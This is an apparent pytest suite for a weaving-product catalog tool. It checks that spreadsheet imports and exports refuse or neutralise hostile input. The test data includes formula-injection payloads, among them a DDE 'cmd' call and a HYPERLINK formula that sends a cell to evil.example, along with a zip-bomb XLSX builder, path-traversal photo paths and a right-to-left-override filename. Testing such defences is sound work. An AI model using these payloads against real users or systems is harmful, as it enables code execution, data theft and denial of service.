"""Hostile spreadsheets (issue 10): formula injection, unbounded XLSX, look-alike SKUs and control
characters, mixed encodings, out-of-range numbers and photo paths outside the sheet's folder.

Every refusal goes through the real command line (`cli.main` with capsys) or the real operation
on a real library in tmp_path, and checks the message (what, where, the limit), the exit code and
that the library is exactly as before (row counts, product rows, photo files, integrity_check).
Hostile files are built quickly: XLSX sheets are written as XML straight into a zip.
"""

from __future__ import annotations

import csv
import io
import os
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from spreadsheet_helpers import add_motifs, photo, rich_library, snapshot, write_csv

from tenun_catalog import operations as ops
from tenun_catalog.cli import main
from tenun_catalog.domain.entities import Product
from tenun_catalog.domain.errors import UserError
from tenun_catalog.spreadsheet import OutsidePaths, read
from tenun_catalog.spreadsheet.cells import neutralise, restore
from tenun_catalog.spreadsheet.columns import BY_KEY
from tenun_catalog.spreadsheet.plan import cell_limit

HEADER = ["sku", "kind", "name_id", "price"]


def cli(capsys, lib, *args: str, lang: str = "en") -> tuple[int, str, str]:
    code = main(["--library", str(lib.root), "--lang", lang, *args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def refused(capsys, lib, sheet: Path, *texts: str, lang: str = "en") -> str:
    """Import `sheet` from the command line: exit 1, every text in the message, no change."""
    before = snapshot(lib)
    code, out, err = cli(capsys, lib, "import", str(sheet), lang=lang)
    assert code == 1, (out, err)
    assert "Traceback" not in err
    for text in texts:
        assert text in err, (text, err)
    assert snapshot(lib) == before
    assert before["integrity"] is True
    return err


# ---- 1. formula injection ------------------------------------------------------------------

HOSTILE = {
    "name_id": '=HYPERLINK("http://evil.example/?q="&A1,"Klik")',
    "name_en": "=cmd|' /C calc'!A0",
    "brand": "+1+cmd|' /C calc'!A0",
    "packaging": "@SUM(1+1)*cmd|' /C calc'!A0",
    "story_id": "- Cerita yang memang dimulai dengan tanda minus.",
    "story_en": "=1+1 is how the weaver wrote it",
    "description_id": "'=already quoted by the weaver",
    "description_en": "'Tis a plain apostrophe",
    "trademark_number": "-DID2024",
}


def hostile_product(sku: str = "TN-INJ") -> Product:
    product = Product(sku=sku, kind="tenun", price=350_000)
    for path, value in HOSTILE.items():
        setattr(product, path, value)
    return product


def test_csv_export_neutralises_formulas_and_import_round_trip_is_lossless(tmp_path, lib):
    ops.add_product(lib, hostile_product())
    sheet = tmp_path / "out" / "produk.csv"
    ops.export_spreadsheet(lib, sheet, with_photos=False)

    rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8-sig"))))
    cells = dict(zip(rows[0], rows[1], strict=True))
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    assert cells["name_id"] == "'" + HOSTILE["name_id"]
    assert cells["name_en"] == "'=cmd|' /C calc'!A0"
    assert cells["story_id"] == "'- Cerita yang memang dimulai dengan tanda minus."
    assert cells["description_id"] == "''=already quoted by the weaver"
    assert cells["description_en"] == "'Tis a plain apostrophe"  # not a formula: unchanged

    other = ops.open_or_create(tmp_path / "other-library")
    try:
        report = ops.import_spreadsheet(other, sheet)
        assert report.applied and report.created == ["TN-INJ"], report.lines("en")
        back = ops.get_product(other, "TN-INJ")
        for path, value in HOSTILE.items():
            assert getattr(back, path) == value, path
    finally:
        other.close()


@pytest.mark.parametrize(
    "text",
    ["=1", "+1", "-1", "@x", "\t=1", "\r=1", "'=1", "''+1", "'x", "", "a=1", "'", "''"],
)
def test_neutralise_and_restore_are_inverse(text):
    written = neutralise(text)
    assert written[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert restore(written) == text


def test_xlsx_export_writes_text_cells_never_formulas(tmp_path, lib):
    ops.add_product(lib, hostile_product())
    sheet = tmp_path / "produk.xlsx"
    ops.export_spreadsheet(lib, sheet, with_photos=False)
    with zipfile.ZipFile(sheet) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    book = openpyxl.load_workbook(sheet)
    row = {c.value: i for i, c in enumerate(book["Produk"][1])}
    values = book["Produk"][2]
    for path, value in HOSTILE.items():
        assert values[row[path]].value == value
        assert values[row[path]].data_type == "s"


# ---- 2. limits on what a sheet may make us read ----------------------------------------------

SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_TAIL = b"</sheetData></worksheet>"


def _inline(ref: str, text: str) -> bytes:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


def _row(number: int, values: list[str]) -> bytes:
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
    cells = b"".join(_inline(f"{letters[i]}{number}", v) for i, v in enumerate(values))
    return f'<row r="{number}">'.encode() + cells + b"</row>"


def xlsx_with_sheet(path: Path, write_sheet) -> Path:
    """A real workbook saved by openpyxl whose first sheet's XML is replaced by `write_sheet`
    (called with a writable stream), so hostile sheets cost neither time nor memory to build."""
    template = io.BytesIO()
    openpyxl.Workbook().save(template)
    with zipfile.ZipFile(template) as source, zipfile.ZipFile(path, "w") as target:
        for item in source.infolist():
            if item.filename == "xl/worksheets/sheet1.xml":
                continue
            target.writestr(item, source.read(item.filename), zipfile.ZIP_DEFLATED)
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        with target.open(info, "w", force_zip64=True) as stream:
            stream.write(SHEET_HEAD)
            write_sheet(stream)
            stream.write(SHEET_TAIL)
    return path


def test_xlsx_with_a_huge_compressed_cell_is_refused_before_reading(tmp_path, capsys, lib):
    chunk = b"A" * (1 << 20)

    def huge_cell(stream) -> None:
        stream.write(_row(1, HEADER))
        stream.write(b'<row r="2">' + _inline("A2", "TN-1")[: -len("</t></is></c>")])
        for _ in range(read.MAX_XLSX_UNPACKED // len(chunk) + 1):
            stream.write(chunk)
        stream.write(b"</t></is></c></row>")

    sheet = xlsx_with_sheet(tmp_path / "bom.xlsx", huge_cell)
    assert sheet.stat().st_size < 2 * 1024 * 1024  # a small file that unpacks to > 100 MB
    started = time.monotonic()
    err = refused(capsys, lib, sheet, "bom.xlsx", "100 MB", "too big once unpacked")
    assert time.monotonic() - started < 5
    assert "Traceback" not in err


def test_xlsx_with_too_many_files_inside_is_refused(tmp_path, capsys, lib):
    sheet = xlsx_with_sheet(tmp_path / "isi.xlsx", lambda stream: stream.write(_row(1, HEADER)))
    with zipfile.ZipFile(sheet, "a") as archive:
        for number in range(read.MAX_XLSX_MEMBERS):
            archive.writestr(f"xl/media/x{number}.bin", b"")
    refused(capsys, lib, sheet, "isi.xlsx", f"in {read.MAX_XLSX_MEMBERS} files")


def test_xlsx_with_too_many_rows_stops_at_the_limit(tmp_path, capsys, lib, monkeypatch):
    """Reading stops at the row limit: 100,000 rows cost what the limit's rows cost. (The limit
    is lowered to 1,000 so the test stays fast; the real 20,000 is checked with a CSV below.)"""

    def many_rows(stream) -> None:
        stream.write(_row(1, HEADER))
        for number in range(2, 100_002):
            stream.write(_row(number, [f"TN-{number}", "tenun"]))

    sheet = xlsx_with_sheet(tmp_path / "panjang.xlsx", many_rows)
    monkeypatch.setattr(read, "MAX_ROWS", 1_000)
    started = time.monotonic()
    refused(capsys, lib, sheet, "panjang.xlsx", "more than 1,000 product rows")
    assert time.monotonic() - started < 5  # reading all 100,000 rows takes over 15 s


def test_xlsx_row_far_below_after_a_gap_is_refused_without_filling_the_gap(tmp_path, capsys, lib):
    def far_row(stream) -> None:
        stream.write(_row(1, HEADER) + _row(2, ["TN-1", "tenun", "Kain", "100000"]))
        stream.write(_row(900_000_000, ["TN-2", "tenun"]))

    sheet = xlsx_with_sheet(tmp_path / "jauh.xlsx", far_row)
    started = time.monotonic()
    refused(capsys, lib, sheet, "more than 20,000 product rows", lang="en")
    assert time.monotonic() - started < 5


def test_xlsx_with_too_many_columns_is_refused(tmp_path, capsys, lib):
    def wide(stream) -> None:
        stream.write(_row(1, HEADER))
        stream.write(b'<row r="2">' + _inline("A2", "TN-1") + _inline("XFD2", "x") + b"</row>")

    sheet = xlsx_with_sheet(tmp_path / "lebar.xlsx", wide)
    refused(capsys, lib, sheet, "more than 100 columns (row 2)")


def test_csv_with_too_many_rows_is_refused(tmp_path, capsys, lib):
    rows = [HEADER] + [[f"TN-{n}", "other", "Kain", "1000"] for n in range(read.MAX_ROWS + 1)]
    sheet = write_csv(tmp_path / "banyak.csv", rows)
    refused(capsys, lib, sheet, "more than 20,000 product rows", lang="en")
    err = refused(capsys, lib, sheet, "20.000", lang="id")
    assert "baris" in err


def test_sheet_file_over_the_size_limit_is_refused_unread(tmp_path, capsys, lib):
    sheet = tmp_path / "besar.csv"
    with sheet.open("wb") as handle:  # sparse: costs no disk and no time
        handle.truncate(read.MAX_FILE_BYTES + 1)
    refused(capsys, lib, sheet, "besar.csv", "too big", "50 MB")


def test_cell_longer_than_its_column_is_refused_naming_row_column_and_limit(tmp_path, capsys, lib):
    name, story = (cell_limit(BY_KEY[key]) for key in ("name_id", "story_id"))
    assert name <= 500 and story <= 20_000  # the bounds the brief sets at most
    rows = [
        [*HEADER, "story_id"],
        ["TN-1", "tenun", "N" * (name + 1), "100000", "ok"],
        ["TN-2", "tenun", "Kain", "100000", "S" * (story + 1)],
        ["TN-3", "tenun", "N" * name, "100000", "S" * story],  # exactly the limits: fine
    ]
    sheet = write_csv(tmp_path / "panjang.csv", rows)
    err = refused(
        capsys,
        lib,
        sheet,
        "Row 2, column 'name_id' (C2)",
        f"at most {name:,}",
        "Row 3, column 'story_id' (E3)",
        f"at most {story:,}",
    )
    assert "Row 4" not in err


# ---- 3. look-alike SKUs and control characters ---------------------------------------------


def test_lookalike_skus_and_control_characters_are_refused_naming_the_character(
    tmp_path, capsys, lib
):
    rows = [
        [*HEADER, "producer"],
        ["\u0422NN-001", "tenun", "Cyrillic", "100000", ""],
        ["\uff34\uff2e-001", "tenun", "Full width", "100000", ""],
        ["TN\u200b-001", "tenun", "Zero width", "100000", ""],
        ["TN-004", "tenun", "Sel\x00endang", "100000", ""],
        ["TN-005", "tenun", "Kain", "100000", "Kelompok\x1b[31m"],
        ["TN-006", "tenun", "Fine row", "100000", ""],
    ]
    sheet = write_csv(tmp_path / "mirip.csv", rows)
    err = refused(
        capsys,
        lib,
        sheet,
        "Row 2, column 'sku' (A2)",
        "U+0422 CYRILLIC CAPITAL LETTER TE",
        "Row 3, column 'sku' (A3)",
        "U+FF34 FULLWIDTH LATIN CAPITAL LETTER T",
        "Perhaps you meant 'TN-001'",
        "Row 4, column 'sku' (A4)",
        "U+200B ZERO WIDTH SPACE",
        "Row 5, column 'name_id' (C5)",
        "U+0000 NULL",
        "Row 6, column 'producer' (E6)",
        "U+001B ESCAPE",
    )
    assert "Row 7" not in err
    err_id = refused(capsys, lib, sheet, "Baris 2, kolom 'sku'", "U+0422", lang="id")
    assert "karakter" in err_id


@pytest.mark.parametrize(
    "sku, char", [("\u0422NN-001", "U+0422"), ("\uff34\uff2e-001", "U+FF34"), ("T\x00", "U+0000")]
)
def test_product_add_and_edit_refuse_lookalike_skus(lib, sku, char):
    before = snapshot(lib)
    with pytest.raises(UserError) as caught:
        ops.add_product(lib, Product(sku=sku, kind="tenun", price=100_000))
    assert char in caught.value.message("en") and char in caught.value.message("id")
    assert caught.value.field == "sku"
    assert snapshot(lib) == before
    ops.add_product(lib, Product(sku="TNN-001", kind="tenun", price=100_000))
    with pytest.raises(UserError) as caught:
        ops.edit_product(lib, "TNN-001", {"sku": sku})
    assert char in caught.value.message("en")
    assert ops.get_product(lib, "TNN-001").sku == "TNN-001"


def test_product_add_refuses_nul_and_escape_in_text_but_keeps_line_breaks(lib):
    with pytest.raises(UserError) as caught:
        ops.add_product(lib, Product(sku="TN-1", kind="tenun", story_id="Cerita\x00", price=1))
    assert "U+0000 NULL" in caught.value.message("en") and caught.value.field == "story_id"
    with pytest.raises(UserError):
        ops.add_product(lib, Product(sku="TN-1", kind="tenun", name_en="a\u202egnp.exe", price=1))
    assert ops.count_products(lib) == 0
    ops.add_product(lib, Product(sku='LN/01:"a" 7', kind="tenun", story_id="a\nb\tc", price=1))


# ---- 4. mixed encodings ------------------------------------------------------------------------


def test_csv_mixing_utf8_and_windows_1252_is_refused_naming_the_line(tmp_path, capsys, lib):
    sheet = tmp_path / "campur.csv"
    sheet.write_bytes(
        b"sku,kind,name_id,price\n"
        + "TN-1,tenun,Lawo Ende-Lio \u00f1,100000\n".encode()
        + b"TN-2,tenun,Kain,100000\n"
        + "TN-3,tenun,Caf\u00e9 tenun,100000\n".encode("cp1252")
    )
    refused(capsys, lib, sheet, "campur.csv", "line 4", "UTF-8 mixed with Windows-1252")


def test_csv_wholly_in_windows_1252_still_imports(tmp_path, lib):
    sheet = tmp_path / "excel.csv"
    sheet.write_bytes("sku;kind;name_id;price\nTN-1;tenun;Caf\u00e9;100000\n".encode("cp1252"))
    assert ops.import_spreadsheet(lib, sheet).applied
    assert ops.get_product(lib, "TN-1").name_id == "Caf\u00e9"


# ---- 5. numbers out of range -------------------------------------------------------------------


def test_negative_stock_zero_price_and_zero_width_are_refused_on_import(tmp_path, capsys, lib):
    rows = [
        [*HEADER, "stock", "tenun.width_cm", "min_order"],
        ["TN-1", "tenun", "Stok minus", "100000", "-3", "", ""],
        ["TN-2", "tenun", "Harga nol", "0", "1", "", ""],
        ["TN-3", "tenun", "Lebar nol", "100000", "1", "0", ""],
        ["TN-4", "tenun", "Pesan nol", "100000", "1", "50", "0"],
        ["TN-5", "tenun", "Baik", "100000", "0", "50", "1"],
    ]
    sheet = write_csv(tmp_path / "angka.csv", rows)
    err = refused(
        capsys,
        lib,
        sheet,
        "Row 2, column 'stock' (E2)",
        "Stock must be at least 0; found -3",
        "Row 3, column 'price' (D3)",
        "Row 4, column 'tenun.width_cm' (F4)",
        "Row 5, column 'min_order' (G5)",
    )
    assert "Row 6" not in err


def test_negative_stock_is_refused_by_product_edit(lib):
    ops.add_product(lib, Product(sku="TN-1", kind="tenun", price=100_000, stock=2))
    with pytest.raises(UserError) as caught:
        ops.edit_product(lib, "TN-1", {"stock": -1})
    assert caught.value.field == "stock" and "-1" in caught.value.message("en")
    assert ops.get_product(lib, "TN-1").stock == 2


# ---- 6. photo paths outside the sheet's folder -------------------------------------------------


@pytest.fixture
def outside_sheet(tmp_path) -> tuple[Path, list[Path]]:
    """A sheet whose rows reach a photo by '..', by an absolute path and by a symbolic link."""
    folder = tmp_path / "kiriman"
    secret = [photo(tmp_path / "pribadi", f"rahasia{i}.jpg", 40 + i) for i in range(3)]
    photo(folder, "ok.jpg", 50)
    link = folder / "tautan.jpg"
    if hasattr(os, "symlink"):
        try:
            link.symlink_to(secret[2])
        except OSError:
            link = secret[2]
    rows = [
        [*HEADER, "photos"],
        ["TN-1", "tenun", "Di dalam", "100000", "ok.jpg"],
        ["TN-2", "tenun", "Naik", "100000", "../pribadi/rahasia0.jpg"],
        ["TN-3", "tenun", "Mutlak", "100000", str(secret[1])],
        ["TN-4", "tenun", "Tautan", "100000", link.name if link.parent == folder else str(link)],
    ]
    return write_csv(folder / "produk.csv", rows), secret


def test_photos_outside_the_sheet_folder_are_refused_and_listed(capsys, lib, outside_sheet):
    sheet, secret = outside_sheet
    err = refused(
        capsys,
        lib,
        sheet,
        "outside its folder",
        f"3: '../pribadi/rahasia0.jpg' -> {secret[0].resolve()}",
        f"4: '{secret[1]}' -> {secret[1].resolve()}",
        "5: '",
        str(secret[2].resolve()),
        "--allow-outside-paths",
    )
    assert "ok.jpg" not in err
    with pytest.raises(OutsidePaths) as caught:
        ops.import_spreadsheet(lib, sheet, dry_run=True)
    assert [row for row, _, _ in caught.value.paths] == [3, 4, 5]


def test_allow_outside_paths_imports_them(capsys, lib, outside_sheet):
    sheet, _ = outside_sheet
    code, out, err = cli(capsys, lib, "import", str(sheet), "--allow-outside-paths")
    assert code == 0, err
    assert [len(ops.list_photos(lib, f"TN-{n}")) for n in range(1, 5)] == [1, 1, 1, 1]


def test_photo_name_too_long_for_the_file_system_is_not_found_not_a_crash(tmp_path, capsys, lib):
    rows = [[*HEADER, "photos"], ["TN-1", "tenun", "Kain", "100000", "a" * 5_000 + ".jpg"]]
    sheet = write_csv(tmp_path / "nama.csv", rows)
    refused(capsys, lib, sheet, "Row 2, column 'photos' (E2)", "was not found")


def test_export_import_round_trip_of_a_rich_library_still_works(tmp_path, lib):
    """The guards change nothing for a sheet we wrote ourselves, photos beside it."""
    rich_library(lib, tmp_path / "asli")
    sheet = tmp_path / "ekspor" / "produk.csv"
    ops.export_spreadsheet(lib, sheet)
    other = ops.open_or_create(tmp_path / "lain")
    try:
        add_motifs(other)
        report = ops.import_spreadsheet(other, sheet)
        assert report.applied and not report.errors, report.lines("en")
        assert len(report.created) == 3 and report.photos_added == 6
    finally:
        other.close()
